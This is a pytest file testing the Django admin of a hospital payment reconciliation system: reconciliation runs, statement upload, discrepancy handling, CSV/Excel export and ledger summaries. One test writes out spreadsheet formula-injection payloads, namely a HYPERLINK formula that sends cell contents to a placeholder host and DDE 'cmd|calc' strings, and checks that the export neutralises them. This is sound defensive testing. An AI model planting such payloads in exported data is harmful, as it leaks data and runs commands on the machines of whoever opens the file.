"""The finance staff's admin through Django's test client: reconcile now, upload, resolve, export,
the ledger with totals and the monthly summary with its chart."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from reconciliation import services
from reconciliation.models import Discrepancy, ReconciliationRun, Statement, StatementImport, StatementSource
from regional.models import AuditEntry
from tests.base import bill, import_bill, yesterday
from tests.base import local as at
from tests.factories import pay, refund, source

Run = ReconciliationRun


def finance(*codenames: str) -> User:
    user = User.objects.create_user("finance", password="x-pass-123456", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(content_type__app_label="reconciliation", codename__in=codenames)
    )
    return user


def a_day(hospital, n=6):
    day = yesterday()
    payments = [pay(hospital, day=day, amount=f"{10 + i}.00") for i in range(n)]
    refund(payments[-1], when=at(day, 21))
    return day


@pytest.mark.django_db
class RunAdminTests:
    # The bill comes from the sandbox channel over HTTP: the live server must see committed rows.
    @pytest.mark.django_db(transaction=True)
    def test_reconcile_now_fetches_the_bill_runs_and_shows_the_result(
        self, hospital, admin_client, django_capture_on_commit_callbacks, public_url
    ):
        day = a_day(hospital)
        source("wepay", sandbox_options={"encoding": "gbk"})
        page = admin_client.get(reverse("admin:reconciliation_run_reconcile"))
        assert page.status_code == 200 and "立即对账" in page.content.decode()
        with django_capture_on_commit_callbacks(execute=True):
            response = admin_client.post(
                reverse("admin:reconciliation_run_reconcile"),
                {"date_from": day, "date_to": day, "pay_channel": "", "hospital_check": "disputed", "fetch": "on"},
            )
        run = Run.objects.get()
        assert response.status_code == 302 and response.url.endswith(f"/{run.pk}/change/")
        assert (run.status, run.result, run.trigger) == (Run.Status.DONE, Run.Result.BALANCED, Run.Trigger.MANUAL)
        assert Statement.objects.get().encoding == "GBK"
        detail = admin_client.get(response.url).content.decode()
        assert "平账" in detail and "导出CSV" in detail and "导出Excel" in detail
        listing = admin_client.get(reverse("admin:reconciliation_reconciliationrun_changelist")).content.decode()
        assert "平账" in listing and "月度汇总" in listing

    def test_a_run_page_refreshes_while_queued_and_shows_its_progress_when_done(
        self, hospital, admin_client, django_capture_on_commit_callbacks
    ):
        day = a_day(hospital)
        import_bill("wepay", day)
        queued = services.reconciliation_request(date_from=day, date_to=day)  # not committed: no task yet
        page = admin_client.get(reverse("admin:reconciliation_reconciliationrun_change", args=[queued.pk]))
        text = page.content.decode()
        assert '<meta http-equiv="refresh" content="2">' in text and "排队中" in text and "导出Excel" not in text
        services.reconciliation_execute(run=queued)
        queued.refresh_from_db()
        # Both channels of the one day were checked; 6 payments and 1 refund on each side.
        assert (queued.phase, queued.checks_done, queued.checks_total, queued.rows_read) == ("已完成", 2, 2, 14)
        text = admin_client.get(page.wsgi_request.path).content.decode()
        assert 'http-equiv="refresh"' not in text and "2/2" in text and "已读取交易笔数（平台流水与对账单）：14" in text
        listing = admin_client.get(reverse("admin:reconciliation_reconciliationrun_changelist")).content.decode()
        assert "已完成" in listing

    def test_a_failed_run_says_why_in_chinese_and_stores_nothing(self, hospital, admin_client, settings):
        day = a_day(hospital)
        import_bill("wepay", day, extra_payment=3)
        settings.RECONCILIATION_MAX_DISCREPANCIES = 1
        run = services.reconciliation_run(date_from=day, date_to=day)
        assert (run.status, run.result) == (Run.Status.FAILED, Run.Result.FAILED)
        assert not Discrepancy.objects.exists() and run.phase == "已停止（未保存任何差异）"
        text = admin_client.get(reverse("admin:reconciliation_reconciliationrun_change", args=[run.pk])).content
        assert "对账失败：差异超过1笔，已停止" in text.decode() and "errornote" in text.decode()

    def test_a_range_ending_today_is_refused_on_the_form(self, hospital, admin_client):
        from django.utils import timezone

        today = timezone.localdate()
        page = admin_client.post(
            reverse("admin:reconciliation_run_reconcile"),
            {"date_from": today, "date_to": today, "hospital_check": "disputed"},
        )
        assert page.status_code == 200 and "只能对已结束的日期对账" in page.content.decode()
        assert not Run.objects.exists()

    def test_staff_without_the_permission_cannot_reconcile_or_export(self, hospital, client):
        client.force_login(finance("view_reconciliationrun"))
        assert client.get(reverse("admin:reconciliation_run_reconcile")).status_code == 403
        day = a_day(hospital)
        import_bill("wepay", day)
        run = services.reconciliation_run(date_from=day, date_to=day)
        assert client.get(reverse("admin:reconciliation_run_export_csv", args=[run.pk])).status_code == 403
        assert client.get(reverse("admin:reconciliation_reconciliationrun_changelist")).status_code == 200


@pytest.mark.django_db
class ExportTests:
    @pytest.fixture
    def run(self, hospital):
        day = a_day(hospital)
        self.manifest = import_bill("wepay", day, missing_payment=1, amount_mismatch=1)
        return services.reconciliation_run(date_from=day, date_to=day)

    def test_a_run_exports_to_csv_that_excel_opens_as_chinese(self, run, admin_client):
        response = admin_client.get(reverse("admin:reconciliation_run_export_csv", args=[run.pk]))
        assert response["Content-Disposition"] == f'attachment; filename="reconciliation-{run.pk}.csv"'
        assert response.content.startswith(b"\xef\xbb\xbf")
        text = response.content.decode("utf-8-sig")
        assert f"对账批次,#{run.pk}" in text and "平台支付金额,75.00" in text and "差异数,2" in text
        assert "差异明细" in text and "平台有支付，渠道无记录" in text
        mismatch = next(line for line in text.splitlines() if "支付金额不一致" in line)
        row = Discrepancy.objects.get(type="amount_mismatch")
        assert f",{row.ledger_amount},{row.statement_amount},-1.00," in mismatch
        assert self.manifest.amount_mismatch[0] == row.batch and row.batch in mismatch

    def test_a_run_exports_to_an_excel_workbook_with_numbers_to_the_cent(self, run, admin_client):
        response = admin_client.get(reverse("admin:reconciliation_run_export_xlsx", args=[run.pk]))
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        book = load_workbook(io.BytesIO(response.content))
        assert book.sheetnames == ["汇总", "差异明细"]
        summary = {row[0].value: row[1] for row in book["汇总"].iter_rows()}
        assert Decimal(str(summary["平台支付金额"].value)) == Decimal("75.00")
        assert summary["平台支付金额"].number_format == "0.00"
        rows = list(book["差异明细"].iter_rows(values_only=True))
        assert rows[0][:3] == ("业务日期", "差异类型", "款项") and len(rows) == 3
        mismatch = next(r for r in rows if r[1] == "支付金额不一致")
        row = Discrepancy.objects.get(type="amount_mismatch")
        assert [Decimal(str(v)) for v in mismatch[8:11]] == [row.ledger_amount, row.statement_amount, Decimal("-1.00")]

    def test_a_channels_trade_number_or_a_hospitals_name_never_becomes_a_formula(self, run, hospital, admin_client):
        # The attack of issue 14 item 2: text from partners that a spreadsheet would run.
        attacks = ['=HYPERLINK("http://e.x/?"&A1,"a")', "+cmd|calc!A0"]
        first, second = Discrepancy.objects.order_by("pk")[:2]
        Discrepancy.objects.filter(pk=first.pk).update(pay_trade_no=attacks[0])
        Discrepancy.objects.filter(pk=second.pk).update(pay_trade_no=attacks[1])
        type(hospital).objects.filter(pk=hospital.pk).update(name="@SUM(1+9)*cmd|' /C calc'!A0")
        Discrepancy.objects.filter(pk=first.pk).update(hospital=hospital)
        text = admin_client.get(reverse("admin:reconciliation_run_export_csv", args=[run.pk])).content.decode(
            "utf-8-sig"
        )
        import csv

        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "'" + attacks[0] in cells and "'" + attacks[1] in cells and "'@SUM(1+9)*cmd|' /C calc'!A0" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert "-1.00" in cells  # a negative amount is a number, not neutralised
        book = load_workbook(
            io.BytesIO(admin_client.get(reverse("admin:reconciliation_run_export_xlsx", args=[run.pk])).content)
        )
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
        assert not [c for c in cells if c.data_type == "f"]
        trade = [c for c in cells if c.value in attacks]
        assert len(trade) == 2 and all(c.data_type == "s" and c.quotePrefix for c in trade)


@pytest.mark.django_db
class StatementAdminTests:
    def test_staff_upload_a_bill_and_a_bad_one_is_refused_with_its_line(
        self, hospital, client, django_capture_on_commit_callbacks
    ):
        client.force_login(finance("view_statement", "add_statement", "view_statementimport"))
        day = a_day(hospital)
        wepay = source("wepay", adapter=StatementSource.UPLOAD)
        content, _ = bill("wepay", day, encoding="gbk")
        url = reverse("admin:reconciliation_statement_upload")
        bad = content.decode("gbk").replace("`SUCCESS", "`PAYING", 1).encode("gbk")
        # The request only keeps the file and queues its import; the import's page follows the task.
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                url, {"source": wepay.pk, "bill_date": day, "file": SimpleUploadedFile("ALL.csv", bad, "text/csv")}
            )
        failed = StatementImport.objects.get()
        assert response.status_code == 302 and response.url.endswith(f"/{failed.pk}/change/")
        page = client.get(response.url).content.decode()
        assert "失败" in page and "对账单第2行：交易状态“PAYING”无法识别" in page and "原有数据不变" in page
        assert 'http-equiv="refresh"' not in page  # finished: the page stops refreshing
        assert not Statement.objects.exists()
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                url, {"source": wepay.pk, "bill_date": day, "file": SimpleUploadedFile("ALL.csv", content, "text/csv")}
            )
        assert response.status_code == 302
        statement = Statement.objects.get()
        assert (statement.origin, statement.filename, statement.imported_by.username) == (
            "upload",
            "ALL.csv",
            "finance",
        )
        done = StatementImport.objects.exclude(pk=failed.pk).get()
        assert (done.status, done.rows_read, done.statement, done.content) == ("done", 7, statement, None)
        page = client.get(response.url).content.decode()
        assert "已完成" in page and "已导入" in page and "已读取明细行数：7" in page
        listing = client.get(reverse("admin:reconciliation_statement_changelist")).content.decode()
        assert "上传对账单" in listing and "查看7笔" in listing and "导入记录" in listing

    def test_a_queued_import_page_refreshes_itself_until_the_worker_is_done(self, hospital, client):
        client.force_login(finance("view_statement", "add_statement", "view_statementimport"))
        wepay = source("wepay", adapter=StatementSource.UPLOAD)
        content, _ = bill("wepay", a_day(hospital))
        # Without the commit callbacks the task is never sent: the import stays queued, as before a worker takes it.
        response = client.post(
            reverse("admin:reconciliation_statement_upload"),
            {"source": wepay.pk, "bill_date": yesterday(), "file": SimpleUploadedFile("ALL.csv", content, "text/csv")},
        )
        page = client.get(response.url).content.decode()
        assert '<meta http-equiv="refresh" content="2">' in page and "排队中" in page and "自动刷新" in page
        assert not Statement.objects.exists()

    def test_fetching_a_bill_runs_as_a_task_and_its_page_shows_the_result(
        self, hospital, client, django_capture_on_commit_callbacks, settings
    ):
        client.force_login(finance("view_statement", "add_statement", "view_statementimport"))
        settings.PUBLIC_BASE_URL = "http://127.0.0.1:9"  # nothing listens: the channel is unreachable
        wepay = source("wepay", adapter=StatementSource.SANDBOX)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                reverse("admin:reconciliation_statement_fetch"), {"source": wepay.pk, "bill_date": a_day(hospital)}
            )
        job = StatementImport.objects.get()
        assert (job.kind, job.status) == ("fetch", "failed") and "无法连接" in job.error
        page = client.get(response.url).content.decode()
        assert "无法连接" in page and "失败" in page and not Statement.objects.exists()

    def test_a_sources_secret_is_stored_encrypted_and_never_shown(self, admin_client):
        response = admin_client.post(
            reverse("admin:reconciliation_statementsource_add"),
            {
                "name": "微信支付", "pay_channel": "wepay", "merchant_id": "1900000109", "adapter": "http",
                "url": "https://bills.example.invalid/wepay/{date}", "username": "platform", "secret": "s3cret-Value",
                "timeout_seconds": 60, "sandbox_options": "{}", "is_active": "on",
            },
        )  # fmt: skip
        assert response.status_code == 302
        saved = StatementSource.objects.get()
        assert saved.secret() == "s3cret-Value" and "s3cret" not in saved.secret_encrypted
        page = admin_client.get(reverse("admin:reconciliation_statementsource_change", args=[saved.pk]))
        assert "s3cret-Value" not in page.content.decode() and "已设置（加密保存）" in page.content.decode()

    def test_unknown_sandbox_knobs_are_refused_on_the_form(self, admin_client):
        page = admin_client.post(
            reverse("admin:reconciliation_statementsource_add"),
            {"name": "沙箱", "pay_channel": "alipay", "adapter": "sandbox", "timeout_seconds": 60,
             "sandbox_options": '{"lost_payment": 1}'},
        )  # fmt: skip
        assert "沙箱差异设置含未知项：lost_payment" in page.content.decode()


@pytest.mark.django_db
class DiscrepancyAdminTests:
    def test_differences_are_explained_in_bulk_with_a_reason(self, hospital, client):
        user = finance("view_discrepancy", "resolve_discrepancy")
        client.force_login(user)
        day = a_day(hospital)
        import_bill("wepay", day, missing_payment=1, extra_payment=2)
        services.reconciliation_run(date_from=day, date_to=day)
        listing = client.get(reverse("admin:reconciliation_discrepancy_changelist"))
        missing = Discrepancy.objects.get(type=Discrepancy.Type.PLATFORM_ONLY).ledger_amount
        expected = f"共3条差异，待处理3条，差额合计（平台−渠道）{missing - Decimal('19.98')}元"
        assert expected in listing.content.decode()
        extra = Discrepancy.objects.filter(type=Discrepancy.Type.CHANNEL_ONLY)
        response = client.post(
            reverse("admin:reconciliation_discrepancy_changelist"),
            {"action": "explain", "_selected_action": [d.pk for d in extra]},
        )
        assert response.status_code == 302 and "/resolve/?ids=" in response.url
        page = client.get(response.url)
        assert "处理对账差异" in page.content.decode() and extra[0].batch in page.content.decode()
        ids = ",".join(str(d.pk) for d in extra)
        done = client.post(
            reverse("admin:reconciliation_discrepancy_resolve"),
            {"ids": ids, "status": "explained", "reason": "渠道侧测试交易"},
        )
        assert done.status_code == 302
        assert set(Discrepancy.objects.values_list("type", "status")) == {
            ("channel_only", "explained"),
            ("platform_only", "open"),
        }
        assert AuditEntry.objects.filter(action="差异已说明", user=user, reason="渠道侧测试交易").count() == 2

    def test_staff_without_the_permission_cannot_resolve(self, hospital, client):
        client.force_login(finance("view_discrepancy"))
        assert client.get(reverse("admin:reconciliation_discrepancy_resolve") + "?ids=1").status_code == 403


@pytest.mark.django_db
class LedgerAndMonthlyTests:
    def test_the_ledger_shows_totals_for_the_filter_and_masks_patients(self, make_hospital, admin_client):
        one, two = make_hospital("H0001"), make_hospital("H0002", name="测试第二医院")
        a_day(one)
        pay(two, day=yesterday(), amount="100.00", name="王小明")
        url = reverse("admin:reconciliation_ledgerentryrecord_changelist")
        text = admin_client.get(url, {"day": "yesterday", "hospital__id__exact": one.pk}).content.decode()
        assert "筛选结果合计：支付6笔 75.00元，退款1笔 15.00元，净额 60.00元" in text
        text = admin_client.get(url, {"day": "yesterday"}).content.decode()
        assert "支付7笔 175.00元" in text and "王*" in text and "王小明" not in text

    def test_the_monthly_summary_has_a_table_and_a_server_rendered_chart(self, make_hospital, admin_client):
        one, two = make_hospital("H0001"), make_hospital("H0002", name="测试第二医院")
        day = a_day(one)
        pay(two, day=day, amount="100.00", type="2")
        page = admin_client.get(reverse("admin:reconciliation_run_monthly"), {"year": day.year})
        text = page.content.decode()
        assert page.status_code == 200 and "<svg" in text and 'class="paid"' in text and "<polyline" in text
        assert "<script" not in text.split("<svg", 1)[1].split("</svg>")[0]
        assert "cdn" not in text.lower()
        assert f"{day.month}月" in text and "测试第二医院（H0002）" in text
        assert "175.00" in text and "15.00" in text and "160.00" in text  # paid, refunded, net for the year


@pytest.mark.django_db
class AdminPagesTests:
    def test_every_finance_page_opens(self, hospital, admin_client):
        day = a_day(hospital)
        import_bill("wepay", day, missing_payment=1)
        run = services.reconciliation_run(date_from=day, date_to=day)
        discrepancy = Discrepancy.objects.get()
        statement = Statement.objects.get()
        content, _ = bill("wepay", day)
        job = services.statement_upload_request(
            source=statement.source, bill_date=day, file=io.BytesIO(content), filename="ALL.csv"
        )
        for name, args in (
            ("admin:reconciliation_statementimport_changelist", []),
            ("admin:reconciliation_statementimport_change", [job.pk]),
            ("admin:reconciliation_statementsource_changelist", []),
            ("admin:reconciliation_statement_changelist", []),
            ("admin:reconciliation_statement_change", [statement.pk]),
            ("admin:reconciliation_statement_upload", []),
            ("admin:reconciliation_statement_fetch", []),
            ("admin:reconciliation_statementline_changelist", []),
            ("admin:reconciliation_reconciliationrun_change", [run.pk]),
            ("admin:reconciliation_discrepancy_change", [discrepancy.pk]),
            ("admin:reconciliation_ledgerentryrecord_changelist", []),
            ("admin:app_list", ["reconciliation"]),
        ):
            page = admin_client.get(reverse(name, args=args))
            assert page.status_code == 200, name
        detail = admin_client.get(reverse("admin:reconciliation_discrepancy_change", args=[discrepancy.pk]))
        assert "status=corrected" in detail.content.decode()


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("public_url")
class SandboxCommandTests:
    def test_the_command_sets_up_both_channels_and_reconciles_a_day(self, hospital):
        from django.core.management import call_command

        day = a_day(hospital)
        out = io.StringIO()
        call_command(
            "reconciliation_sandbox", "--extra-payment", "1", "--encoding", "gbk", "--reconcile", str(day), stdout=out
        )
        assert StatementSource.objects.filter(adapter="sandbox").count() == 2
        assert "有差异，一致6笔，差异2条" in out.getvalue()  # one extra payment on each channel's bill
